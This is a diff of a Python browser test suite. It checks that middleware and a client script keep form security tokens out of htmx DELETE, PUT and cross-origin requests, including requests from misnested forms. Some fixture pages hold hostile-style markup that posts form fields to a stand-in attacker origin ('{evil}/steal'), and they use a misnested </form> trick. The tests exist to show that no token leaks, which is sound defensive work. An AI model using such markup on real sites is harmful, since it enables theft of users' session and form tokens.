@@ -132,8 +132,29 @@ PAGES: dict[str, str] = {
     # (hostile) htmx allowed to leave the origin; the form's hx-post goes to the other one
     "/evil": '<form method="post" hx-post="{evil}/steal" hx-target="#out">' + NOTE +
              '<button id="go">Go</button></form>' + OUT,
+    # A </form> before the end of a <div> opened in the form leaves the div, and the button
+    # in it, in the form (htmx's closest("form") finds it), where the markup reads as after
+    # the form's end: the middleware wrote the form's tokens, and the client script leaves
+    # them out of an htmx request that would put them in a URL or send them away.
+    # Other verbs from inside a post form, nested as written: the middleware refuses
+    # reserved fields in a URL and in any body but a POST's, so the client script leaves them
+    # out of such a request (a DELETE would also put the tokens in its URL: the middleware
+    # withholds those of its form); the request reaches the app with the form's own fields.
+    "/delete-in-a-form": '<form method="post" action="/comment">' + NOTE +
+                         '<button id="go" hx-delete="/items/4" hx-target="#out">Delete</button>'
+                         "</form>" + OUT,
+    "/put-in-a-form": '<form method="post" action="/comment">' + NOTE +
+                      '<button id="go" hx-put="/items/5" hx-target="#out">Save</button>'
+                      "</form>" + OUT,
+    "/misnested-delete": '<form method="post" action="/comment">' + NOTE + "<div></form>"
+                         '<button id="go" hx-delete="/items/3" hx-target="#out">Delete</button>'
+                         "</div>" + OUT,
+    "/misnested-away": '<form method="post" action="/comment">' + NOTE + "<div></form>"
+                       '<button id="go" hx-post="{evil}/steal" hx-target="#out">Go</button>'
+                       "</div>" + OUT,
 }
-META = {"/evil": """<meta name="htmx-config" content='{"selfRequestsOnly": false}'>"""}
+_AWAY = """<meta name="htmx-config" content='{"selfRequestsOnly": false}'>"""
+META = {"/evil": _AWAY, "/misnested-away": _AWAY}
 
 
 @dataclass
@@ -343,5 +364,71 @@ def test_no_tokens_go_to_another_origin_by_htmx(
     received = evil.wait_for("POST", "/steal")
     assert received.fields["note"] == "kept"
     assert not set(TOKENS) & set(received.fields)
+    assert not any(token in json.dumps(received.fields) for token in TOKENS)
+    assert not [r for r in site.seen if r.method == "POST"]
+
+
+def test_an_htmx_delete_in_a_post_form_reaches_the_app(
+    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
+) -> None:
+    """The form gets no tokens (a DELETE would put them in its URL), and its DELETE goes
+    without the reserved fields it still holds, so the middleware lets it through."""
+    site, page = sites[0], browser_page
+    markup = open_page(page, servers, "/delete-in-a-form")
+    assert 'name="__EVENTTARGET"' in markup
+    assert not any(f'name="{token}"' in markup for token in TOKENS)
+    page.click("#go")
+    expect(page.locator("#answer")).to_have_text("DELETE /items/4 none")
+    received = site.wait_for("DELETE", "/items/4")
+    assert dict(parse_qsl(received.query)) == {"note": "kept"}
+
+
+def test_an_htmx_put_in_a_post_form_reaches_the_app(
+    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
+) -> None:
+    """The form keeps its tokens (its own postbacks need them); its PUT goes without the
+    reserved fields, so the middleware lets it through, the form's own field in its body."""
+    site, page = sites[0], browser_page
+    markup = open_page(page, servers, "/put-in-a-form")
+    assert all(f'name="{token}"' in markup for token in TOKENS)
+    page.click("#go")
+    expect(page.locator("#answer")).to_have_text("PUT /items/5 none")
+    received = site.wait_for("PUT", "/items/5")
+    assert received.fields == {"note": "kept"}
+
+
+def test_an_htmx_delete_after_a_misnested_form_end_sends_no_tokens_in_its_url(
+    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
+) -> None:
+    """The button's DELETE carries the form's fields in its URL (htmx 2): the client script
+    leaves the reserved ones out, so the request reaches the app (the middleware refuses
+    them in a URL) and no token is in a URL (logs, history)."""
+    site, page = sites[0], browser_page
+    markup = open_page(page, servers, "/misnested-delete")
+    assert all(f'name="{token}"' in markup for token in TOKENS)  # (it reads as no htmx form's)
+    with page.expect_request(lambda r: r.method == "DELETE") as sent:
+        page.click("#go")
+    assert "note=kept" in sent.value.url  # (the form's fields did go: htmx took the form)
+    assert not any(name in sent.value.url for name in RESERVED)
+    expect(page.locator("#answer")).to_have_text("DELETE /items/3 none")
+    received = site.wait_for("DELETE", "/items/3")
+    assert dict(parse_qsl(received.query)) == {"note": "kept"}
+
+
+def test_an_htmx_request_after_a_misnested_form_end_sends_no_tokens_away(
+    browser_page: Any, servers: Servers, sites: tuple[Site, Site]
+) -> None:
+    """htmx told it may leave the origin: the button's hx-post to the other origin takes the
+    form's fields (it is in the form), without the tokens."""
+    site, evil = sites
+    evil_url, page = servers[3], browser_page
+    markup = open_page(page, servers, "/misnested-away")
+    assert all(f'name="{token}"' in markup for token in TOKENS)
+    with page.expect_request(lambda r: r.url.startswith(evil_url) and r.method == "POST") as sent:
+        page.click("#go")
+    body = dict(parse_qsl(sent.value.post_data or "", keep_blank_values=True))
+    assert body["note"] == "kept"
+    assert not set(RESERVED) & set(body)
+    received = evil.wait_for("POST", "/steal")
     assert not any(token in json.dumps(received.fields) for token in TOKENS)
     assert not [r for r in site.seen if r.method == "POST"]
